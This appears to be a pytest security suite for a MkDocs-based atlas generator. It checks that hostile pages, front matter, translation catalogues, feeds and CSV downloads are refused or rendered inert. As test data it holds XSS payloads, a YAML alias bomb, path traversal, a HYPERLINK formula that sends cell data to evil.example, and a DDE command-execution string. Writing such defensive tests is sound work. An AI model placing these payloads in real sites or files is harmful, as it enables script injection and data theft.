"""Every file a pull request can change is hostile, not only the data: hand-written pages and the
files beside them, their front matter, the message catalogues, the feed, the downloads, the reports.

Each attack is refused by `atlas validate` with file, line and hint, or built inert; none gives a
traceback or runs for more than a few seconds.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET

import pytest

from generator.render import export
from generator.cli.diff import review_notices
from generator.core.i18n import read_catalogue
from generator.core.safety import clean_feed
from generator.site.plugin import messages_script

from .conftest import RECENT, only

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40


def page(atlas, relative: str, text: str):
    atlas.write(relative, text)
    return [d for d in atlas.diagnostics() if d.path == f"content/{relative.split('/', 1)[1]}"]


def city(atlas, extra: str = "", body: str = "", name: str = "Testville"):
    atlas.write("cities/testville.md", f"---\nname: {name}\ncountry: DE\ncoordinates: [52.52, 13.405]\n{extra}"
                                       f"sources: [https://example.org]\nlast_verified: {RECENT}\n---\n{body}")
    return [d for d in atlas.diagnostics() if d.path == "cities/testville.md"]


def process(atlas, *args):
    return subprocess.run([sys.executable, "-m", "generator", "--root", str(atlas.root), *args],
                          capture_output=True, text=True, timeout=60)


# ---- files published as they are -----------------------------------------------------

@pytest.mark.parametrize("relative, content, code", [
    ("content/assets/atlas/material-palette.js", b"window.__pwned = 1", "reserved-path"),
    ("content/assets/atlas/og-image.png", PNG, "reserved-path"),
    ("content/search/search_index.json", b"{}", "reserved-path"),
    ("content/x.html", b"<script>alert(1)</script>", "unsafe-file"),
    ("content/images/map.svg", b"<svg onload=alert(1)></svg>", "unsafe-file"),
    ("content/images/style.css", b"body{}", "unsafe-file"),
    ("content/images/x.js", b"alert(1)", "unsafe-file"),
    ("content/images/photo.png", b"<html><script>alert(1)</script>", "unsafe-file"),
    ("content/images/README", b"text", "unsafe-file"),
])
def test_a_file_in_content_that_could_run_or_replace_the_themes_is_refused(atlas, relative, content, code):
    atlas.write(relative, content)
    found = [d for d in atlas.diagnostics() if d.path == relative]
    assert [d.code for d in found] == [code] and found[0].is_error and found[0].hint


def test_a_real_picture_in_content_images_is_accepted(atlas):
    atlas.write("content/images/photo.png", PNG)
    atlas.write("content/images/photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 20)
    assert atlas.diagnostics() == []


# ---- page and post front matter --------------------------------------------------------

BOMB = "search:\n  boost: &a [1, 1, 1, 1, 1, 1, 1, 1, 1]\n  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"


@pytest.mark.parametrize("front, code, line", [
    (BOMB, "yaml-alias", 3),
    ("hide: 5\n", "wrong-type", 2),
    ("hide: [navigation, everything]\n", "bad-value", 2),
    ("template: ../../../../etc/passwd\n", "unknown-field", 2),
    ("search:\n  boost: 1000000000\n", "out-of-range", 3),
    ("title: \"A\\u202eB\"\n", "control-character", 2),
])
def test_a_pages_front_matter_is_read_as_data_and_held_to_its_fields(atlas, front, code, line):
    found = page(atlas, "content/about.md", f"---\n{front}---\n\n# About\n")
    assert [(d.code, d.line) for d in found] == [(code, line)], found
    assert found[0].hint


@pytest.mark.parametrize("text", ["template: 404.html\ntitle: Hijacked\n\n# About\n",
                                  "Note: the map shows every city.\n\nMore text.\n",
                                  "   hide: [navigation]\n# About\n"])
def test_a_setting_on_a_pages_first_line_without_front_matter_is_refused(atlas, text):
    # MkDocs reads "key: value" lines at the top of a page without front matter as the page's settings:
    # a template or a title past every check, or a first sentence that would vanish from the page.
    d = only(page(atlas, "content/about.md", text), "settings-without-front-matter")
    assert (d.line, d.column) == (1, 1) and "'---'" in d.hint
    assert page(atlas, "content/about.md", "# About\n\nNote: the map shows every city.\n") == []


@pytest.mark.parametrize("opening", ["--- ", "---\t \t"])
def test_front_matter_is_checked_as_mkdocs_reads_it_with_spaces_after_the_dashes(atlas, opening):
    found = page(atlas, "content/about.md", f"{opening}\ntemplate: 404.html\n--- \n\n# About\n")
    assert [(d.code, d.line) for d in found] == [("unknown-field", 2)], found


def test_front_matter_closes_only_where_mkdocs_closes_it(atlas):
    # A line of dashes and a non-breaking space does not close front matter for MkDocs: the fields below it
    # are front matter too, and are read as such (here: YAML that is not one document is refused).
    found = page(atlas, "content/about.md", "---\ntitle: About\n---\u00a0\ntemplate: 404.html\n---\n\n# About\n")
    assert [d.code for d in found] == ["yaml-syntax"], found


@pytest.mark.parametrize("text, line, says", [
    ("---\ntitle: About\n---", 3, "no line break after it"),  # MkDocs publishes it all as the page's text
    ("---\n---\n# About\n", 2, "nothing between them"),
])
def test_front_matter_mkdocs_would_publish_as_text_is_refused(atlas, text, line, says):
    d = only(page(atlas, "content/about.md", text), "front-matter-not-read")
    assert d.line == line and d.message.endswith(says) and d.hint
    assert page(atlas, "content/about.md", "---\ntitle: About\n---\n") == []


def test_the_front_matter_our_pages_use_is_accepted(atlas):
    found = page(atlas, "content/about.md", "---\ntitle: About\ndescription: What it is.\nhide: [navigation, toc]\n"
                 "search:\n  boost: 2\nmachine_assisted: true\n---\n\n# About\n")
    assert found == []


def test_a_post_and_a_page_at_one_address_are_an_error_naming_both(atlas):
    atlas.write("content/news/posts/x.md", f"---\ntitle: X\ndate: {RECENT}\nauthors: [Editors]\n"
                                           "cities: [testville]\n---\n\nText.\n")
    atlas.write("content/news/x.md", "# X\n")
    found = only(atlas.diagnostics(), "page-collision")
    assert {found.path, found.message.split(" and ")[1].split(" would")[0]} == {"content/news/x.md",
                                                                                  "content/news/posts/x.md"}


def test_a_page_beside_a_folder_of_the_same_address_is_an_error(atlas):
    atlas.write("content/about.md", "# About\n")
    atlas.write("content/about/index.md", "# About\n")
    assert only(atlas.diagnostics(), "page-collision").message.endswith("/about/")


def test_translations_of_a_page_share_its_address_without_a_collision(atlas):
    atlas.write("content/about.md", "# About\n")
    atlas.write("content/about.de.md", "# Über\n")
    assert atlas.diagnostics() == []


# ---- one reading of HTML -------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "<!--> <form action=/x><button>Go</button></form> -->",
    "<!---> <form action=/x><button>Go</button></form> -->",
    "<!-- a --!> <form action=/x><button>Go</button></form> -->",
    "<!-- a --!> <iframe src=https://evil.example></iframe> -->",
])
def test_markup_after_a_comment_the_browser_has_closed_is_seen_and_refused(atlas, text):
    found = city(atlas, body=f"\nFine.\n\n{text}\n")
    assert any(d.code == "unsafe-html" and d.line == 11 for d in found), found


def test_markup_inside_a_comment_the_browser_keeps_open_is_only_a_comment(atlas):
    assert city(atlas, body="\nFine. <!-- a <form> in a note -- still a comment -->\n") == []


# ---- characters and limits -----------------------------------------------------------

@pytest.mark.parametrize("name", ["Test\u061cville", "Test\U000e0041ville", "Test\ue000ville", "Test\ufdd0ville",
                                  "Test\uffffville", "Test\u2066ville\u2069", "Test\u00adville"])
def test_invisible_and_unassigned_characters_in_a_name_are_refused(atlas, name):
    found = city(atlas, name=f'"{name}"'.encode("unicode_escape").decode().replace("\\\\", "\\"))
    assert [d.code for d in found] == ["control-character"] and found[0].line == 2


def test_the_joiners_that_scripts_need_inside_words_are_accepted(atlas):
    assert city(atlas, name='"\u0915\u094d\u200d\u0937 Testville"') == []


@pytest.mark.parametrize("extra, body, code", [
    ("", "\n" + "<div>" * 200 + "x" + "</div>" * 200 + "\n", "nested-too-deep"),
    ("", "\n" + "*" * 1225 + "a" + "*" * 1225 + "\n", "emphasis-too-deep"),
    ("", "\nA line with a vertical tab \x0b in it.\n", "control-character"),
    ("population: {value: 100000000000000000000000000, year: 2020, source: https://example.org}\n", "",
     "out-of-range"),
    ("subtitle: \"" + "x" * 400 + "\"\n", "", "too-long"),
])
def test_valid_looking_data_that_would_stall_or_break_the_build_is_refused(atlas, extra, body, code):
    assert code in [d.code for d in city(atlas, extra, body)]


def test_a_name_of_90000_characters_and_12000_takeaways_are_refused_fast(atlas):
    import time

    started = time.perf_counter()
    found = city(atlas, "takeaways:\n" + "  - One sentence.\n" * 12_000, name="x" * 90_000)
    assert {"too-long", "too-many-items"} <= {d.code for d in found}
    assert time.perf_counter() - started < 20


def test_an_absurd_setting_is_an_error_not_a_traceback(atlas):
    atlas.write("atlas.yml", "stale_after_months: 30000\n")
    result = process(atlas, "validate")
    assert result.returncode == 1 and "Traceback" not in result.stderr + result.stdout
    assert "atlas.yml:1:1: error[wrong-type] expected stale_after_months" in result.stdout


def test_a_translated_page_that_is_not_utf8_does_not_crash_the_translations_report(atlas):
    atlas.write("content/about.md", "# About\n")
    atlas.write("content/about.de.md", b"---\ntitle: \xff\xfe\n---\n")
    result = process(atlas, "translations")
    assert "Traceback" not in result.stderr, result.stderr
    assert "content/about.de.md" in process(atlas, "validate").stdout


# ---- catalogues ----------------------------------------------------------------------

def catalogue(tmp_path, msgid: str, msgstr: str):
    path = tmp_path / "atlas.po"
    path.write_text(f'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
                    f'msgid "{msgid}"\nmsgstr "{msgstr}"\n', encoding="utf-8")
    return read_catalogue(path, "de", "generator/locale/de/LC_MESSAGES/atlas.po")[1]


@pytest.mark.parametrize("msgid, msgstr", [
    ("Data CC BY 4.0", "<meta http-equiv=refresh content=0;url=https://evil.example/ "),
    ("Page not found", "<img src=x onerror=alert(1) "),
    ("Page not found", "<img src=x onerror=alert(1)>"),
    ("See <a href=\\\"%(url)s\\\">the list</a>", "Siehe <a href=\\\"%(url)s\\\" onclick=\\\"x\\\">die Liste</a>"),
    ("See <a href=\\\"%(url)s\\\">the list</a>", "Siehe <a href=\\\"https://evil.example\\\">die Liste</a>"),
    ("Map", "Karte <!-- "),
])
def test_a_translation_may_hold_only_the_markup_of_its_english(tmp_path, msgid, msgstr):
    problems = catalogue(tmp_path, msgid, msgstr)
    assert [p.code for p in problems] == ["bad-translation"] and problems[0].line == 5  # the msgid's line


def test_a_translation_may_write_the_englishs_markup_its_own_way(tmp_path):
    assert catalogue(tmp_path, "See <a href=\\\"%(url)s\\\">the list</a>",
                     "Siehe <a  href='%(url)s' >die Liste</a>") == []


def test_the_maps_messages_reach_the_script_as_data_whatever_a_translation_holds():
    hostile = {"language": "de", "copied": '"; fetch("https://evil.example"); "\u2028</script><script>x()',
               "shown": {"one": "\\\"};alert(1);//", "other": "\u2029`${alert(1)}`"}}
    script = messages_script(hostile)
    literal = re.fullmatch(r"self\.atlasMessages = (\{[ -~]*\});\n", script).group(1)  # one line of ASCII
    assert json.loads(literal) == hostile  # a JSON literal (a JavaScript expression) holding the same text


# ---- the feed and the downloads ---------------------------------------------------------

def test_the_feed_carries_only_sanitised_html_and_stays_well_formed():
    feed = ('<?xml version="1.0" encoding="UTF-8" ?><rss version="2.0"><channel><title>News</title><item>'
            '<title>A \uffff &lt;b&gt;title&lt;/b&gt;</title><author>&lt;img src=x onerror=alert(1)&gt;</author>'
            '<description>&lt;img src="https://tracker.example/p.gif"&gt;&lt;p onclick="x"&gt;Text\x0b&lt;/p&gt;'
            '</description></item></channel></rss>')
    cleaned = clean_feed(feed)
    item = ET.fromstring(cleaned.encode()).find("channel/item")
    assert item.find("title").text == "A  title" and not item.find("author").text
    assert item.find("description").text == "<img><p>Text</p>"


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_csv_cell_a_spreadsheet_would_run_starts_with_a_quote(value):
    rows = list(csv.reader(io.StringIO(export.csv_text(["name"], [[value], [["x", value]]]), newline="")))
    assert rows[1] == ["'" + value.replace("\r", "\n")] and not rows[2][0].startswith(export.FORMULA_START)


def test_numbers_stay_numbers_in_a_csv():
    rows = list(csv.reader(io.StringIO(export.csv_text(["lng"], [[-8.61], ["-0.5"], [3]]), newline="")))
    assert [r[0] for r in rows[1:]] == ["-8.61", "-0.5", "3"]


def test_no_cell_of_the_real_downloads_starts_with_a_formula_character(real_site):
    for path in (real_site / "data").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            assert not any(cell.startswith(export.FORMULA_START) and not export.NUMBER.fullmatch(cell)
                           for cell in row), (path, row)


def test_the_real_feed_parses_as_xml_with_sanitised_descriptions(real_site):
    root = ET.parse(real_site / "feed_rss_created.xml").getroot()
    descriptions = [item.find("description").text or "" for item in root.iter("item")]
    assert descriptions and all("<script" not in d and "https://" not in d.split("src=")[-1][:9] for d in descriptions)


# ---- reviewers are told ----------------------------------------------------------------

def test_atlas_diff_calls_out_the_tile_server_the_theme_workflows_and_catalogues(tmp_path):
    def git(*args):
        subprocess.run(["git", "-C", str(tmp_path), *args], check=True, capture_output=True)

    git("init", "-q")
    git("config", "user.email", "t@example.org")
    git("config", "user.name", "T")
    (tmp_path / "mkdocs.yml").write_text("site_url: !ENV [X, 'http://x/']\nextra:\n  atlas:\n    tiles: null\n")
    git("add", ".")
    git("commit", "-qm", "base")
    (tmp_path / "mkdocs.yml").write_text("site_url: !ENV [X, 'http://x/']\nextra:\n  atlas:\n    tiles:\n"
                                         "      url: https://tiles.evil.example/{z}/{x}/{y}.png\n")
    for relative in ("theme/assets/atlas/atlas-map.js", ".github/workflows/pages.yml",
                     "generator/locale/de/LC_MESSAGES/atlas.po"):
        (tmp_path / relative).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / relative).write_text("x")
    git("add", ".")
    git("commit", "-qm", "head")
    notices = "\n".join(review_notices(tmp_path, "HEAD~1"))
    assert "tile server" in notices and "none -> https://tiles.evil.example/{z}/{x}/{y}.png" in notices
    for path in ("theme/assets/atlas/atlas-map.js", ".github/workflows/pages.yml",
                 "generator/locale/de/LC_MESSAGES/atlas.po"):
        assert path in notices


# ---- what Material prints as it is ----------------------------------------------------

@pytest.mark.build
def test_the_footer_description_palette_and_navigation_from_settings_are_built_inert(tmp_path):
    from .site import build_in_process, site_active_content, small_atlas

    atlas = small_atlas(tmp_path / "atlas")
    config = (atlas / "mkdocs.yml").read_text(encoding="utf-8")
    hostile = {
        "copyright: Data CC BY 4.0 · Moving Cities Atlas contributors":
            "copyright: 'Data <img src=x onerror=alert(1)><meta http-equiv=refresh content=0;url=https://evil.example/'",
        "site_description: ": "site_description: '\"><script>alert(1)</script>' #",
        "name: Switch to dark mode": "name: '\"><img src=x onerror=alert(1)>'",
        "  - Map: map.md": "  - '<img src=x onerror=alert(1)>': map.md",
    }
    for old, new in hostile.items():
        assert old in config
        config = config.replace(old, new)
    (atlas / "mkdocs.yml").write_text(config, encoding="utf-8")
    assert build_in_process(atlas, tmp_path / "site")
    assert site_active_content(tmp_path / "site") == []
    home = (tmp_path / "site/index.html").read_text(encoding="utf-8")
    assert "http-equiv=refresh" not in home and "<script>alert" not in home


def test_a_printed_report_committed_into_the_build_cache_is_refused_and_a_local_one_is_not(atlas):
    """The builds publish a cached report as it is, by its content's hash: a pull request that commits one
    (`git add -f .cache/...`) would publish any PDF as a city's report, unprinted."""
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.org", "HOME": str(atlas.root), "PATH": "/usr/bin:/bin"}

    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(atlas.root), *args], check=True, capture_output=True, env=env)

    git("init", "-q", "-b", "main")
    (atlas.root / ".gitignore").write_text("/.cache/\n")
    atlas.write(".cache/reports/local.pdf", b"%PDF-1.7 printed here")
    git("add", "-A")
    git("commit", "-qm", "the atlas, its cache ignored")
    assert "build-file-committed" not in atlas.codes()  # what the builds wrote here, not in the change
    atlas.write(".cache/reports/0123abcd.pdf", b"%PDF-1.7 not printed by this atlas")
    git("add", "-f", ".cache/reports/0123abcd.pdf")
    git("commit", "-qm", "a planted report")
    [found] = [d for d in atlas.diagnostics() if d.code == "build-file-committed"]
    assert (found.path, found.line) == (".cache/reports/0123abcd.pdf", 1)
    assert "found this file committed" in found.message and "git rm -r --cached .cache" in found.hint
    result = subprocess.run([sys.executable, "-m", "generator", "--root", str(atlas.root), "validate"],
                            capture_output=True, text=True)
    assert result.returncode == 1 and ".cache/reports/0123abcd.pdf:1:1" in result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    # Compiled templates, which a build would run: refused too, also by the preview's first build (make serve)
    atlas.write(".cache/templates/0123abcd", b"j2 not compiled by this atlas")
    git("add", "-f", ".cache/templates/0123abcd")
    git("commit", "-qm", "a planted template")
    from generator.core.validate import validate

    for parsed in (None, {}):
        found = [d.path for d in validate(atlas.root, parsed=parsed).diagnostics if d.code == "build-file-committed"]
        assert found == [".cache/reports/0123abcd.pdf", ".cache/templates/0123abcd"]
